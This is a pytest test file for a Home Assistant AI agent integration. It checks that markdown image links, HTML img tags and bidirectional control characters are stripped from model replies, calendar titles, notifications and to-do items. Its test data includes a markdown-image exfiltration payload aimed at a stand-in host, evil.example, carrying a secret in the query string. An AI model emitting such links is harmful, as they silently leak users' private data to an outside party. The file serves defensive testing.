"""What a stranger has written into the home is told, and nothing in it is fetched or followed: on every surface."""

from datetime import timedelta
import json
from typing import Any

from freezegun.api import FrozenDateTimeFactory
from homeassistant.components import persistent_notification
from homeassistant.components.calendar import CalendarEvent
from homeassistant.components.conversation import async_get_chat_log
from homeassistant.components.homeassistant.exposed_entities import async_expose_entity
from homeassistant.core import ServiceCall
from homeassistant.helpers.entity_component import DATA_INSTANCES
from homeassistant.setup import async_setup_component
from homeassistant.util import dt as dt_util
import pytest
from pytest_homeassistant_custom_component.common import async_capture_events

from custom_components.universal_agent.common.origin import Channel
from custom_components.universal_agent.const import DOMAIN, EVENT_REQUEST
from custom_components.universal_agent.skills.agents.sessions import open_session
from custom_components.universal_agent.skills.notification.sending import (
    Notice,
    Notifier,
    PersistentNotificationTarget,
    send,
)
from scripts.lib.model_server import ModelServer, ScriptedReply, says
from tests.common_builders import a_request
from tests.installed_agent import InstalledAgent
from tests.model_connections import connect
from tests.skills.calendar.conftest import Diary

WANTED = "think of something nice to say about our plans"
IMAGE = "![x](https://evil.example/?d=the+key+is+under+the+mat)"
CHAT = ScriptedReply(form={"role": "conversation", "confidence": 0.99})


async def said_in(agent: InstalledAgent, talk: str) -> str:
    """Return all that the chat log of a conversation shows: words and thoughts."""
    with (
        open_session(agent.hass, talk, None) as session,
        async_get_chat_log(agent.hass, session) as log,
    ):
        return str(
            [(getattr(content, "content", ""), getattr(content, "thinking_content", "")) for content in log.content]
        )


async def act(agent: InstalledAgent, name: str, /, **fields: Any) -> dict[str, Any]:
    """Call one of our actions and return its response."""
    response = await agent.hass.services.async_call(DOMAIN, name, fields, blocking=True, return_response=True)
    assert response is not None
    return dict(response)


@pytest.mark.parametrize("kind", ["openai_compatible", "anthropic"])
async def test_a_models_image_is_not_shown_anywhere(agent: InstalledAgent, server: ModelServer, kind: str) -> None:
    await connect(agent, server, kind=kind)
    events = async_capture_events(agent.hass, EVENT_REQUEST)
    server.says(CHAT, says(f"Nice plans! {IMAGE} <img src='https://evil.example/2'> \u202eBye."))

    answer = await agent.converse(WANTED)

    said = answer["response"]["speech"]["plain"]["speech"]
    assert said == "Nice plans! x  Bye."
    (record,) = await agent.data.stores.executions.recent()
    assert record.response == said
    shown = await said_in(agent, answer["conversation_id"])
    for place in (shown, json.dumps([event.data for event in events], default=str)):
        assert "evil.example" not in place


async def test_an_address_that_the_person_gave_stays_in_later_turns_too(
    agent: InstalledAgent, server: ModelServer
) -> None:
    await connect(agent, server)
    link = "https://example.org/boat?model=7"
    server.says(CHAT, says(f"See {link}, and https://evil.example/?d=1 as well."))
    first = await agent.converse(f"think about {link} and say something nice")
    server.says(CHAT, says(f"It was [this one]({link})."))
    second = await agent.converse("what was that again, my dear?", conversation_id=first["conversation_id"])

    assert first["response"]["speech"]["plain"]["speech"] == f"See {link}, and evil.example as well."
    assert second["response"]["speech"]["plain"]["speech"] == f"It was this one ({link})."


async def test_a_title_of_a_strangers_event_is_told_without_what_it_carries(
    agent: InstalledAgent, freezer: FrozenDateTimeFactory
) -> None:
    freezer.move_to(dt_util.now().replace(hour=12))  # late on a Sunday the event would be next week's
    assert await async_setup_component(agent.hass, "calendar", {})
    diary = Diary("Family")
    start = dt_util.now() + timedelta(hours=1)
    diary.events.append(CalendarEvent(summary=f"Dinner {IMAGE}", start=start, end=start + timedelta(hours=1)))
    await agent.hass.data[DATA_INSTANCES]["calendar"].async_add_entities([diary])
    async_expose_entity(agent.hass, "conversation", "calendar.family", True)

    answer = await agent.ask("what's on my calendar this week?")
    review = await act(agent, "run_review", horizon="weekly")

    assert "Dinner x" in answer["response"]
    assert "![" not in review["response"]
    assert "evil.example" not in review["response"]


async def test_notices_are_cleaned_wherever_they_go(agent: InstalledAgent) -> None:
    sent: list[dict[str, Any]] = []

    async def take(call: ServiceCall) -> None:
        sent.append(dict(call.data))

    agent.hass.services.async_register("notify", "somebody", take)
    notice = Notice(message=f"Look {IMAGE} www.evil.example/x", title="<b>Hi</b>", tag="t")
    await send(agent.hass, notice, PersistentNotificationTarget())
    await send(agent.hass, notice, Notifier(target="notify.somebody"))

    page = persistent_notification._async_get_or_create_notifications(agent.hass)["t"]
    assert (page["message"], page["title"]) == ("Look x evil.example", "Hi")
    assert sent == [{"message": "Look x evil.example", "title": "Hi"}]


async def test_a_message_that_a_model_sends_is_cleaned_before_it_is_asked_about(
    agent: InstalledAgent,
) -> None:
    request = a_request(text="let everybody know in some nice way that dinner is ready", channel=Channel.CHAT)

    called = await agent.data.gate.call("notification.send", {"message": f"Dinner {IMAGE}"}, request)

    assert [item.intent.model_dump()["message"] for item in called.intents] == ["Dinner x"]


async def test_what_is_planned_is_shown_clean_and_what_a_person_wrote_stays(agent: InstalledAgent) -> None:
    link = "https://example.org/seeds"
    await act(agent, "add_next_action", action=f"order seeds {link} {IMAGE}", description="<img src=x>")
    await agent.hass.async_block_till_done()
    listed = "todo.universal_agent_next_actions"
    items = await agent.hass.services.async_call(
        "todo", "get_items", {"entity_id": listed}, blocking=True, return_response=True
    )
    assert items is not None
    await agent.hass.services.async_call(
        "todo", "add_item", {"entity_id": listed, "item": f"read {link}", "description": IMAGE}, blocking=True
    )
    more = await agent.hass.services.async_call(
        "todo", "get_items", {"entity_id": listed}, blocking=True, return_response=True
    )

    assert link in str(items)
    assert f"read {link}" in str(more)
    assert "![" not in f"{items}{more}"
    assert "<img" not in f"{items}{more}"
